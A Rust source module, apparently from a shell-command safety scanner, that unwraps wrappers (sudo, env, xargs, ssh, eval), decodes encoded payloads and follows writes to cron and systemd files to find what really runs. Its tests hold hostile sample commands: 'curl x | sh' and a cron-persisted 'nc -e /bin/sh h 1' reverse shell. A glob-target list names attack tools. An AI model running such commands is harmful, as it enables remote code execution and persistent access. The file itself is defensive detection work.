//! From lexed commands to the commands that actually run: wrappers are unwrapped (`sudo`,
//! `env`, `nohup`, `timeout`, `xargs`, `busybox`, …) and strings that a command runs as code
//! are lexed in their turn (`bash -c`, `eval`, `su -c`, `ssh host cmd`, `find -exec`, aliases,
//! here-documents fed to a shell, `echo … | base64 -d | sh`, string literals of inline Python
//! or Perl that calls `system`). Derived commands are appended to the same [`State`], one
//! level deeper, and are reported at the span of the command they came from.

use super::lexer::{self, Command, MAX_DEPTH, Mode, RedirOp, State, Word};
use super::paths;

/// The pseudo-command that holds inline program code (`python -c CODE`, a code tool's
/// argument) for the code rules.
pub(crate) const CODE: &str = "\u{0}code";

/// What runs, after wrappers.
#[derive(Debug, Clone, Default)]
pub(crate) struct Resolved {
    /// Index in argv of the command that runs.
    pub eff: usize,
    /// Its lower-cased base name; empty when none or unknown.
    pub name: String,
    /// Run through `sudo` or similar.
    pub sudo: bool,
    /// For interpreters: the argv index of inline code (`-c CODE`, `-e CODE`).
    pub code: Option<usize>,
    /// For interpreters: whether the program is read from standard input.
    pub stdin_code: bool,
    /// For interpreters: argv indices of operands (script files, process substitutions).
    pub operands: Vec<usize>,
    /// Whether this is a shell (`sh`, `bash`, …) with `-i`.
    pub interactive: bool,
    /// Run by `xargs`, so its last arguments come from standard input.
    pub xargs: bool,
}

/// Interpreter families.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Interp {
    Shell,
    Python,
    Perl,
    Ruby,
    Node,
    Php,
    Lua,
    PowerShell,
    Awk,
    AppleScript,
    Cmd,
}

/// The interpreter a command name runs, if any.
pub(crate) fn interpreter(name: &str) -> Option<Interp> {
    Some(match name {
        "sh" | "bash" | "zsh" | "dash" | "ksh" | "mksh" | "ash" | "fish" | "csh" | "tcsh"
        | "rbash" | "yash" | "busybox-sh" => Interp::Shell,
        "perl" | "perl5" => Interp::Perl,
        "ruby" | "irb" => Interp::Ruby,
        "node" | "nodejs" | "deno" | "bun" => Interp::Node,
        "php" => Interp::Php,
        "lua" | "luajit" => Interp::Lua,
        "pwsh" | "powershell" => Interp::PowerShell,
        "awk" | "gawk" | "mawk" | "nawk" => Interp::Awk,
        "osascript" => Interp::AppleScript,
        "cmd" => Interp::Cmd,
        _ if name.starts_with("python") || name.starts_with("pypy") => Interp::Python,
        _ => return None,
    })
}

/// The lower-cased base name of a command word: `/usr/bin/RM` → `rm`, `nc.exe` → `nc`.
pub(crate) fn command_name(word: &Word) -> String {
    let text = word.text.trim();
    let base = text.rsplit(['/', '\\']).next().unwrap_or(text);
    let lower = base.to_ascii_lowercase();
    let lower = lower.strip_suffix(".exe").unwrap_or(&lower).to_owned();
    if lower.contains(['*', '?', '[']) && !word.quoted {
        return glob_command(text).unwrap_or(lower);
    }
    lower
}

/// Commands an attacker hides behind a glob (`/???/?m`, `/usr/bin/c?rl`).
const GLOB_TARGETS: &[&str] = &[
    "rm", "curl", "wget", "nc", "ncat", "bash", "sh", "dd", "chmod", "chown", "shred", "python",
    "python3", "perl", "mkfs", "cat", "base64", "socat", "find",
];

fn glob_command(pattern: &str) -> Option<String> {
    // Only words that could name a program: `/???/?m`, `c?rl`, not `Why?`.
    let plausible = pattern.len() <= 32
        && pattern.is_ascii()
        && !pattern.ends_with('?')
        && pattern
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || b"/._-?*[]".contains(&b));
    if !plausible {
        return None;
    }
    let (dirs, base): (&[&str], &str) = match pattern.rfind('/') {
        Some(slash) => (
            &[
                "/bin/",
                "/usr/bin/",
                "/sbin/",
                "/usr/sbin/",
                "/usr/local/bin/",
            ],
            pattern.get(slash + 1..).unwrap_or_default(),
        ),
        None => (&[""], pattern),
    };
    let dir_pattern = pattern
        .get(..pattern.len() - base.len())
        .unwrap_or_default();
    GLOB_TARGETS
        .iter()
        .find(|name| {
            lexer::glob_matches(base, name)
                && dirs.iter().any(|dir| lexer::glob_matches(dir_pattern, dir))
        })
        .map(|name| (*name).to_owned())
}

enum Derived {
    Script(String),
    Argv(Vec<Word>),
    Code(String),
}

/// Skips options from `k`; options in `with_arg` take the next word. Stops after `--`.
fn skip_opts(argv: &[Word], mut k: usize, with_arg: &[&str]) -> usize {
    while let Some(word) = argv.get(k) {
        let t = word.text.as_str();
        if t == "--" {
            return k + 1;
        }
        if !t.starts_with('-') || t.len() < 2 {
            break;
        }
        k += if with_arg.contains(&t) { 2 } else { 1 };
    }
    k
}

fn join(words: &[Word]) -> String {
    words
        .iter()
        .map(|w| w.text.as_str())
        .collect::<Vec<_>>()
        .join(" ")
}

/// The nearest earlier stage of the same pipeline.
pub(crate) fn prev_stage(cmds: &[Command], i: usize) -> Option<usize> {
    let pipeline = cmds.get(i)?.pipeline;
    (i.saturating_sub(64)..i)
        .rev()
        .find(|&j| cmds[j].pipeline == pipeline)
}

/// Resolves command `i` and appends what it runs as code to `st`.
pub(crate) fn resolve(st: &mut State, i: usize, resolved: &[Resolved]) -> Resolved {
    let mut derived = Vec::new();
    let r = match st.commands.get(i) {
        Some(command) => unwrap(st, command, i, resolved, &mut derived),
        None => return Resolved::default(),
    };
    let (depth, top) = match st.commands.get(i) {
        Some(c) => (c.depth.saturating_add(1), c.top),
        None => return r,
    };
    if depth > MAX_DEPTH {
        return r;
    }
    for item in derived.into_iter().take(64) {
        match item {
            Derived::Script(text) => {
                st.lex(&text, Mode::Script, depth, Some(top));
            }
            Derived::Argv(argv) => {
                if !argv.is_empty() {
                    st.push_argv(argv, depth, Some(top));
                }
            }
            Derived::Code(code) => {
                if st.charge(code.len()) {
                    let argv = vec![
                        Word::literal(CODE, 0, 0, false),
                        Word::literal(&code, 0, 0, true),
                    ];
                    st.push_argv(argv, depth, Some(top));
                }
            }
        }
    }
    r
}

fn unwrap(
    st: &State,
    command: &Command,
    i: usize,
    resolved: &[Resolved],
    derived: &mut Vec<Derived>,
) -> Resolved {
    let argv = &command.argv;
    let mut r = Resolved::default();
    let mut k = 0;
    let mut xargs = false;
    for _ in 0..16 {
        let Some(word) = argv.get(k) else { break };
        let name = command_name(word);
        let next = match name.as_str() {
            "sudo" | "doas" | "pkexec" | "run0" => {
                r.sudo = true;
                skip_opts(
                    argv,
                    k + 1,
                    &[
                        "-u", "-g", "-h", "-p", "-C", "-D", "-r", "-t", "-T", "-U", "--user",
                        "--group",
                    ],
                )
            }
            "env" => {
                let mut j = k + 1;
                while let Some(w) = argv.get(j) {
                    let t = w.text.as_str();
                    if t == "-S" || t == "--split-string" {
                        derived.push(Derived::Script(join(argv.get(j + 1..).unwrap_or_default())));
                        j = argv.len();
                        break;
                    }
                    if let Some(rest) = t.strip_prefix("-S").filter(|r| !r.is_empty()) {
                        let tail = join(argv.get(j + 1..).unwrap_or_default());
                        derived.push(Derived::Script(format!("{rest} {tail}")));
                        j = argv.len();
                        break;
                    }
                    if matches!(t, "-u" | "-C" | "--unset" | "--chdir") {
                        j += 2;
                    } else if t.starts_with('-') || w.assign_at.is_some() || t.contains('=') {
                        j += 1;
                    } else {
                        break;
                    }
                }
                j
            }
            "nohup" | "time" | "setsid" | "unbuffer" | "proxychains" | "proxychains4"
            | "torsocks" | "tsocks" | "builtin" | "caffeinate" | "catchsegv" | "nocache" => {
                skip_opts(argv, k + 1, &[])
            }
            "command" => {
                if argv
                    .get(k + 1)
                    .is_some_and(|w| w.text == "-v" || w.text == "-V")
                {
                    break;
                }
                skip_opts(argv, k + 1, &[])
            }
            "exec" => {
                let j = skip_opts(argv, k + 1, &["-a"]);
                if j >= argv.len() {
                    break;
                }
                j
            }
            "nice" => skip_opts(argv, k + 1, &["-n", "--adjustment"]),
            "ionice" => skip_opts(
                argv,
                k + 1,
                &["-c", "-n", "-p", "-P", "-u", "--class", "--classdata"],
            ),
            "timeout" => skip_opts(argv, k + 1, &["-s", "-k", "--signal", "--kill-after"]) + 1,
            "stdbuf" => skip_opts(argv, k + 1, &["-i", "-o", "-e"]),
            "chrt" | "taskset" | "chroot" => {
                skip_opts(argv, k + 1, &["--userspec", "--groups"]) + 1
            }
            "flock" => {
                let j = skip_opts(
                    argv,
                    k + 1,
                    &["-w", "-E", "--timeout", "--conflict-exit-code"],
                );
                if argv.get(j + 1).is_some_and(|w| w.text == "-c") {
                    if let Some(script) = argv.get(j + 2) {
                        derived.push(Derived::Script(script.text.clone()));
                    }
                    break;
                }
                j + 1
            }
            "busybox" | "toybox" => k + 1,
            "xargs" => {
                xargs = true;
                let j = skip_opts(
                    argv,
                    k + 1,
                    &[
                        "-I",
                        "-n",
                        "-P",
                        "-L",
                        "-d",
                        "-a",
                        "-s",
                        "-E",
                        "--max-args",
                        "--max-procs",
                        "--delimiter",
                        "--arg-file",
                    ],
                );
                if j >= argv.len() {
                    break;
                }
                j
            }
            "strace" | "ltrace" => skip_opts(
                argv,
                k + 1,
                &[
                    "-o", "-p", "-e", "-s", "-u", "-E", "-P", "-a", "-b", "-I", "-O", "-S", "-X",
                ],
            ),
            "watch" => {
                let j = skip_opts(argv, k + 1, &["-n", "--interval"]);
                derived.push(Derived::Script(join(argv.get(j..).unwrap_or_default())));
                break;
            }
            "su" | "runuser" | "script" => {
                let mut j = k + 1;
                while let Some(w) = argv.get(j) {
                    if w.text == "-c" || w.text == "--command" {
                        if let Some(script) = argv.get(j + 1) {
                            derived.push(Derived::Script(script.text.clone()));
                        }
                        break;
                    }
                    if let Some(script) = w.text.strip_prefix("--command=") {
                        derived.push(Derived::Script(script.to_owned()));
                        break;
                    }
                    j += 1;
                }
                break;
            }
            "ssh" => {
                let j = skip_opts(
                    argv,
                    k + 1,
                    &[
                        "-b", "-c", "-D", "-E", "-e", "-F", "-I", "-i", "-J", "-L", "-l", "-m",
                        "-O", "-o", "-p", "-Q", "-R", "-S", "-W", "-w",
                    ],
                );
                if let Some(rest) = argv.get(j + 1..).filter(|rest| !rest.is_empty()) {
                    derived.push(Derived::Script(join(rest)));
                }
                break;
            }
            "eval" => {
                derived.push(Derived::Script(join(argv.get(k + 1..).unwrap_or_default())));
                break;
            }
            _ => break,
        };
        if next <= k {
            break;
        }
        k = next;
    }
    r.eff = k.min(argv.len());
    r.xargs = xargs;
    let Some(word) = argv.get(r.eff) else {
        return r;
    };
    r.name = command_name(word);
    let args = argv.get(r.eff + 1..).unwrap_or_default();

    // An alias defined earlier in the same text.
    if !word.quoted
        && let Some(value) = st.aliases.get(&word.text)
    {
        derived.push(Derived::Script(format!("{value} {}", join(args))));
    }
    // A quoted command word with spaces is a command line in a string (`os.system("…")`).
    if r.eff == 0 && word.whole_quoted && word.text.trim().contains([' ', '\t', '\n']) {
        derived.push(Derived::Script(word.text.clone()));
    }
    if xargs {
        // `echo / | xargs rm -rf`: the items come from the previous stage.
        if let Some(items) = prev_stage(&st.commands, i)
            .and_then(|j| st.commands.get(j))
            .and_then(|c| lexer::evaluate(&[c]))
        {
            let mut extended: Vec<Word> = argv.get(r.eff..).unwrap_or_default().to_vec();
            for item in items.split_whitespace().take(64) {
                extended.push(Word::literal(item, word.start, word.end, true));
            }
            derived.push(Derived::Argv(extended));
        }
    }
    if r.name == CODE {
        code_literals(args.first().map_or("", |w| w.text.as_str()), derived);
        return r;
    }
    if r.name == "find" {
        find_exec(args, derived);
    }
    if let Some(interp) = interpreter(&r.name) {
        interpret(&mut r, interp, command, args, derived);
        if r.stdin_code {
            let body = stdin_text(command).or_else(|| {
                // `echo … | base64 -d | sh`: the program is the evaluated pipeline.
                let stages = pipeline_before(&st.commands, i);
                (!stages.is_empty())
                    .then(|| lexer::evaluate(&stages))
                    .flatten()
            });
            if let Some(body) = body {
                derived.push(if interp == Interp::Shell {
                    Derived::Script(body)
                } else {
                    Derived::Code(body)
                });
            }
        }
    }
    // Content written to a file that runs later (cron, shell startup, units) is lexed too.
    for (target, content) in persistent_writes(&st.commands, resolved, i, &r) {
        let content = if target.contains("cron") {
            strip_cron_schedule(&content)
        } else if target.contains("systemd") {
            content
                .lines()
                .filter_map(|l| {
                    l.trim()
                        .strip_prefix("Exec")
                        .and_then(|l| l.split_once('='))
                })
                .map(|(_, v)| v.trim_start_matches(['-', '@', '+', '!']))
                .collect::<Vec<_>>()
                .join("\n")
        } else {
            content
        };
        derived.push(Derived::Script(content));
    }
    r
}

/// Text a command reads on standard input from a here-document or here-string.
pub(crate) fn stdin_text(command: &Command) -> Option<String> {
    command.redirects.iter().find_map(|r| match r.op {
        RedirOp::HereDoc => r.body.clone(),
        RedirOp::HereString => Some(r.target.text.clone()),
        _ => None,
    })
}

/// The earlier stages of command `i`'s pipeline, first to last.
pub(crate) fn pipeline_before(cmds: &[Command], i: usize) -> Vec<&Command> {
    let mut stages = Vec::new();
    let mut at = i;
    while let Some(j) = prev_stage(cmds, at) {
        stages.push(&cmds[j]);
        at = j;
        if stages.len() > 6 {
            break;
        }
    }
    stages.reverse();
    stages
}

fn interpret(
    r: &mut Resolved,
    interp: Interp,
    command: &Command,
    args: &[Word],
    derived: &mut Vec<Derived>,
) {
    let base = r.eff + 1;
    let mut j = 0;
    let mut saw_code_flag = false;
    let mut module = false;
    let mut stdin_flag = false;
    while let Some(w) = args.get(j) {
        let t = w.text.as_str();
        let lower = t.to_ascii_lowercase();
        let is_opt = (t.starts_with('-') || (interp == Interp::Shell && t.starts_with('+')))
            && t.len() > 1
            && !w.proc_sub;
        if interp == Interp::Cmd && (lower == "/c" || lower == "/k" || lower == "/r") {
            derived.push(Derived::Script(join(args.get(j + 1..).unwrap_or_default())));
            return;
        }
        if !is_opt || saw_code_flag {
            if saw_code_flag {
                r.code = Some(base + j);
            } else {
                r.operands.push(base + j);
            }
            if interp == Interp::Awk && r.code.is_none() && !module {
                r.code = Some(base + j);
            }
            break;
        }
        // `ruby -e'code'`, `python -c'code'`: the code is glued to its flag in one word.
        let attached = match interp {
            Interp::Perl | Interp::Ruby | Interp::Lua | Interp::Node => {
                t.strip_prefix("-e").or_else(|| t.strip_prefix("-E"))
            }
            Interp::Python => t.strip_prefix("-c"),
            Interp::Php => t.strip_prefix("-r"),
            _ => None,
        };
        if let Some(code) = attached.filter(|code| !code.is_empty() && !saw_code_flag) {
            r.code = Some(base + j);
            derived.push(Derived::Code(code.to_owned()));
            return;
        }
        if t == "--" {
            if args.get(j + 1).is_some() {
                r.operands.push(base + j + 1);
            }
            break;
        }
        match interp {
            Interp::Shell => {
                if matches!(t, "-o" | "+o" | "-O" | "+O" | "--rcfile" | "--init-file") {
                    j += 2;
                    continue;
                }
                if !t.starts_with("--") {
                    let letters = &t[1..];
                    saw_code_flag |= letters.contains('c');
                    r.interactive |= letters.contains('i');
                    stdin_flag |= letters.contains('s');
                }
            }
            Interp::Python => {
                if matches!(t, "-W" | "-X") {
                    j += 2;
                    continue;
                }
                if t == "-m" {
                    module = true;
                    j += 2;
                    continue;
                }
                if !t.starts_with("--") && t.ends_with('c') {
                    saw_code_flag = true;
                }
            }
            Interp::Perl | Interp::Ruby | Interp::Lua | Interp::AppleScript => {
                if !t.starts_with("--") && (t.ends_with('e') || t.ends_with('E')) {
                    saw_code_flag = true;
                }
                if matches!(t, "-r" | "-I" | "-M") {
                    j += 2;
                    continue;
                }
            }
            Interp::Node => {
                if matches!(t, "-e" | "-p" | "--eval" | "--print" | "-pe") {
                    saw_code_flag = true;
                }
                if t == "-r" || t == "--require" {
                    j += 2;
                    continue;
                }
            }
            Interp::Php => {
                if t == "-r" {
                    saw_code_flag = true;
                }
                if t == "-f" {
                    module = true;
                }
            }
            Interp::PowerShell => {
                let l = lower.trim_start_matches('-');
                if !l.is_empty() && "command".starts_with(l) {
                    let code = join(args.get(j + 1..).unwrap_or_default());
                    derived.push(Derived::Script(code.clone()));
                    derived.push(Derived::Code(code));
                    r.code = Some(base + j + 1);
                    return;
                }
                if !l.is_empty() && ("encodedcommand".starts_with(l) || l == "enc" || l == "ec") {
                    if let Some(decoded) =
                        args.get(j + 1).and_then(|w| decode_utf16_base64(&w.text))
                    {
                        derived.push(Derived::Script(decoded.clone()));
                        derived.push(Derived::Code(decoded));
                    }
                    return;
                }
                if l == "f" || l == "file" {
                    module = true;
                }
                if matches!(
                    l,
                    "executionpolicy" | "ep" | "windowstyle" | "w" | "version"
                ) {
                    j += 2;
                    continue;
                }
            }
            Interp::Awk => {
                if matches!(t, "-F" | "-v") {
                    j += 2;
                    continue;
                }
                if t == "-f" {
                    module = true;
                    j += 2;
                    continue;
                }
            }
            Interp::Cmd => {}
        }
        j += 1;
    }
    if let Some(code) = r.code.and_then(|c| command.argv.get(c)) {
        match interp {
            Interp::Shell => derived.push(Derived::Script(code.text.clone())),
            Interp::Cmd => {}
            _ => derived.push(Derived::Code(code.text.clone())),
        }
    }
    let operand_is_stdin = r
        .operands
        .first()
        .and_then(|&o| command.argv.get(o))
        .is_some_and(|w| w.text == "-" || w.text == "/dev/stdin");
    r.stdin_code = r.code.is_none()
        && !module
        && !saw_code_flag
        && (r.operands.is_empty() || operand_is_stdin || stdin_flag)
        && interp != Interp::Cmd;
}

/// `find … -exec cmd args {} \;` runs `cmd args` for every file.
fn find_exec(args: &[Word], derived: &mut Vec<Derived>) {
    let mut j = 0;
    while let Some(w) = args.get(j) {
        if matches!(w.text.as_str(), "-exec" | "-execdir" | "-ok" | "-okdir") {
            let rest = args.get(j + 1..).unwrap_or_default();
            let end = rest
                .iter()
                .position(|w| w.text == ";" || w.text == "+")
                .unwrap_or(rest.len());
            derived.push(Derived::Argv(rest.get(..end).unwrap_or_default().to_vec()));
            j += end + 1;
        }
        j += 1;
    }
}

/// String literals of inline code that shells out: each literal with spaces is lexed as a
/// command line, and a list of literals (`["rm", "-rf", "/"]`) as an argv.
fn code_literals(code: &str, derived: &mut Vec<Derived>) {
    let lower = code.to_ascii_lowercase();
    const EXECISH: &[&str] = &[
        "system",
        "popen",
        "exec",
        "spawn",
        "subprocess",
        "passthru",
        "proc_open",
        "child_process",
        "os.execute",
        "do shell script",
        "check_output",
        "getoutput",
        ".run(",
        "call(",
        "runtime.getruntime",
        "shell",
        "`",
    ];
    if !EXECISH.iter().any(|needle| lower.contains(needle)) {
        return;
    }
    let bytes = code.as_bytes();
    let mut literals: Vec<(usize, usize, String)> = Vec::new();
    let mut i = 0;
    while i < bytes.len() && literals.len() < 64 {
        let q = bytes[i];
        if !matches!(q, b'\'' | b'"' | b'`') {
            i += 1;
            continue;
        }
        let triple = bytes.get(i + 1) == Some(&q) && bytes.get(i + 2) == Some(&q);
        let open = if triple { 3 } else { 1 };
        let mut j = i + open;
        let mut text = Vec::new();
        let mut closed = None;
        while j < bytes.len() {
            let c = bytes[j];
            if c == b'\\' {
                match bytes.get(j + 1) {
                    Some(b'n') => text.push(b'\n'),
                    Some(b't') => text.push(b'\t'),
                    Some(&other) => text.push(other),
                    None => {}
                }
                j += 2;
                continue;
            }
            if c == q && (!triple || (bytes.get(j + 1) == Some(&q) && bytes.get(j + 2) == Some(&q)))
            {
                closed = Some(j);
                break;
            }
            text.push(c);
            j += 1;
        }
        let Some(close) = closed else { break };
        literals.push((i, close + open, String::from_utf8_lossy(&text).into_owned()));
        i = close + open;
    }
    // Group `[ "a", "b", … ]` lists into argvs.
    let mut k = 0;
    while k < literals.len() {
        let mut end = k;
        while end + 1 < literals.len() {
            let between = code
                .get(literals[end].1..literals[end + 1].0)
                .unwrap_or("x");
            if between.trim() == "," {
                end += 1;
            } else {
                break;
            }
        }
        let before = code.get(..literals[k].0).unwrap_or_default().trim_end();
        if end > k && (before.ends_with('[') || before.ends_with('(')) {
            let argv = literals[k..=end]
                .iter()
                .map(|(s, e, t)| Word::literal(t, *s, *e, true))
                .collect();
            derived.push(Derived::Argv(argv));
        } else {
            for (_, _, text) in &literals[k..=end] {
                if text.trim().contains(' ') {
                    derived.push(Derived::Script(text.clone()));
                }
            }
        }
        k = end + 1;
    }
}

fn decode_utf16_base64(text: &str) -> Option<String> {
    let bytes = lexer::base64_decode(text.as_bytes())?;
    let units: Vec<u16> = bytes
        .chunks(2)
        .filter(|pair| pair.len() == 2)
        .map(|pair| u16::from_le_bytes([pair[0], pair[1]]))
        .collect();
    let decoded = String::from_utf16_lossy(&units);
    decoded.is_ascii().then_some(decoded)
}

/// `*/5 * * * * curl …` → `curl …`; `@reboot root cmd` → `cmd` is not guessed, `root cmd` is.
fn strip_cron_schedule(content: &str) -> String {
    let mut out = String::new();
    for line in content.lines() {
        let line = line.trim();
        if line.is_empty() || line.starts_with('#') {
            continue;
        }
        let fields: Vec<&str> = line.split_whitespace().collect();
        let schedule = if fields.first().is_some_and(|f| f.starts_with('@')) {
            1
        } else {
            fields
                .iter()
                .take(5)
                .take_while(|f| {
                    f.bytes()
                        .all(|b| b.is_ascii_digit() || b"*/,-".contains(&b))
                })
                .count()
        };
        let mut rest = fields.get(schedule..).unwrap_or_default();
        // /etc/crontab and cron.d lines name a user before the command.
        if rest.len() > 1 && rest[0] == "root" {
            rest = &rest[1..];
        }
        out.push_str(&rest.join(" "));
        out.push('\n');
    }
    out
}

/// The text a command writes (here-document, `echo` arguments, the previous pipeline
/// stage's output for `tee` and `crontab -`).
/// `this` is the resolution of `i` when `resolved` does not hold it yet.
pub(crate) fn content_of(
    cmds: &[Command],
    resolved: &[Resolved],
    i: usize,
    this: Option<&Resolved>,
    depth: usize,
) -> Option<String> {
    let command = cmds.get(i)?;
    if let Some(text) = stdin_text(command) {
        return Some(text);
    }
    let r = this.or_else(|| resolved.get(i))?;
    let args = command.argv.get(r.eff + 1..).unwrap_or_default();
    match r.name.as_str() {
        "echo" => Some(join(
            args.iter()
                .skip_while(|w| {
                    w.text.len() > 1
                        && w.text.starts_with('-')
                        && w.text[1..].bytes().all(|b| b"neE".contains(&b))
                })
                .cloned()
                .collect::<Vec<_>>()
                .as_slice(),
        )),
        "printf" => Some(
            args.iter()
                .map(|w| w.text.as_str())
                .collect::<Vec<_>>()
                .join(" "),
        ),
        "tee" | "crontab" | "cat" | "dd" if depth < 4 => {
            prev_stage(cmds, i).and_then(|j| content_of(cmds, resolved, j, None, depth + 1))
        }
        _ => None,
    }
}

/// One file a command writes.
#[derive(Debug, Clone)]
pub(crate) struct Write {
    /// Normalised path.
    pub path: String,
    pub append: bool,
    /// The source file of a copy (`cp SRC DST`), if any.
    pub source: Option<String>,
}

/// Every file command `i` writes: redirections, `tee`, `cp`/`mv`/`install`/`ln`, `dd of=`,
/// in-place edits, downloads to a file.
pub(crate) fn writes(command: &Command, r: &Resolved) -> Vec<Write> {
    let mut out = Vec::new();
    for redirect in &command.redirects {
        if redirect.writes_file() && !redirect.target.dynamic && !redirect.target.text.is_empty() {
            out.push(Write {
                path: paths::normalize(&redirect.target.text),
                append: redirect.op == lexer::RedirOp::Append,
                source: None,
            });
        }
    }
    let args = command.argv.get(r.eff + 1..).unwrap_or_default();
    let operands: Vec<&Word> = {
        let mut operands = Vec::new();
        let mut done = false;
        for w in args {
            if !done && w.text == "--" {
                done = true;
            } else if done || !w.text.starts_with('-') || w.text.len() == 1 {
                operands.push(w);
            }
        }
        operands
    };
    let push = |out: &mut Vec<Write>, w: &Word, append: bool, source: Option<String>| {
        if !w.dynamic && !w.text.is_empty() {
            out.push(Write {
                path: paths::normalize(&w.text),
                append,
                source,
            });
        }
    };
    match r.name.as_str() {
        "tee" => {
            let append = args.iter().any(|w| w.text == "-a" || w.text == "--append");
            for w in &operands {
                push(&mut out, w, append, None);
            }
        }
        "cp" | "mv" | "install" | "ln" | "rsync" | "scp" | "copy" | "move" | "copy-item" => {
            let target_dir = args
                .iter()
                .position(|w| w.text == "-t" || w.text == "--target-directory")
                .and_then(|p| args.get(p + 1));
            let source = operands.first().map(|w| paths::normalize(&w.text));
            if let Some(dir) = target_dir {
                push(&mut out, dir, false, source);
            } else if operands.len() >= 2
                && let Some(last) = operands.last()
            {
                push(&mut out, last, false, source);
            }
        }
        "dd" => {
            let source = args
                .iter()
                .find_map(|w| w.text.strip_prefix("if="))
                .map(paths::normalize);
            for w in args {
                if let Some(path) = w.text.strip_prefix("of=") {
                    let mut target = w.clone();
                    target.text = path.to_owned();
                    push(&mut out, &target, false, source.clone());
                }
            }
        }
        "sed" | "perl" => {
            let in_place = args.iter().any(|w| {
                w.text.starts_with("-i")
                    || w.text == "--in-place"
                    || (r.name == "perl" && w.text.starts_with("-p") && w.text.contains('i'))
            });
            if in_place {
                let explicit_script = args
                    .iter()
                    .any(|w| w.text == "-e" || w.text.ends_with('e') && w.text.starts_with('-'));
                let skip = usize::from(!explicit_script);
                for w in operands.iter().skip(skip) {
                    push(&mut out, w, true, None);
                }
            }
        }
        "curl" | "wget" | "iwr" | "invoke-webrequest" => {
            for (k, w) in args.iter().enumerate() {
                let t = w.text.as_str();
                let takes = match r.name.as_str() {
                    "curl" => t == "-o" || t == "--output",
                    "wget" => t == "-O" || t == "--output-document",
                    _ => t.eq_ignore_ascii_case("-outfile"),
                };
                if takes && let Some(target) = args.get(k + 1).filter(|t| t.text != "-") {
                    push(&mut out, target, false, None);
                }
                if let Some(path) = t
                    .strip_prefix("--output-document=")
                    .or_else(|| t.strip_prefix("--output="))
                {
                    let mut target = w.clone();
                    target.text = path.to_owned();
                    push(&mut out, &target, false, None);
                }
            }
        }
        _ => {}
    }
    out
}

/// (target, content) for writes of known content into files that run later.
fn persistent_writes(
    cmds: &[Command],
    resolved: &[Resolved],
    i: usize,
    r: &Resolved,
) -> Vec<(String, String)> {
    let Some(command) = cmds.get(i) else {
        return Vec::new();
    };
    let mut out = Vec::new();
    let targets: Vec<String> = writes(command, r)
        .into_iter()
        .filter(|w| paths::persistence(&w.path).is_some())
        .map(|w| w.path)
        .collect();
    let is_crontab_install = r.name == "crontab"
        && !command
            .argv
            .iter()
            .any(|w| matches!(w.text.as_str(), "-l" | "-e" | "-r"));
    if targets.is_empty() && !is_crontab_install {
        return out;
    }
    let Some(content) = content_of(cmds, resolved, i, Some(r), 0) else {
        return out;
    };
    if is_crontab_install {
        out.push(("cron".to_owned(), content.clone()));
    }
    for target in targets {
        out.push((target, content.clone()));
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn strips_cron_schedules() {
        assert_eq!(
            strip_cron_schedule("*/5 * * * * curl x | sh"),
            "curl x | sh\n"
        );
        assert_eq!(
            strip_cron_schedule("@reboot nc -e /bin/sh h 1"),
            "nc -e /bin/sh h 1\n"
        );
        assert_eq!(
            strip_cron_schedule("0 3 * * * root /bin/backup"),
            "/bin/backup\n"
        );
    }

    #[test]
    fn names_commands_through_paths_and_globs() {
        assert_eq!(command_name(&Word::literal("/bin/RM", 0, 0, false)), "rm");
        assert_eq!(command_name(&Word::literal("/???/?m", 0, 0, false)), "rm");
        assert_eq!(command_name(&Word::literal("nc.exe", 0, 0, false)), "nc");
    }
}
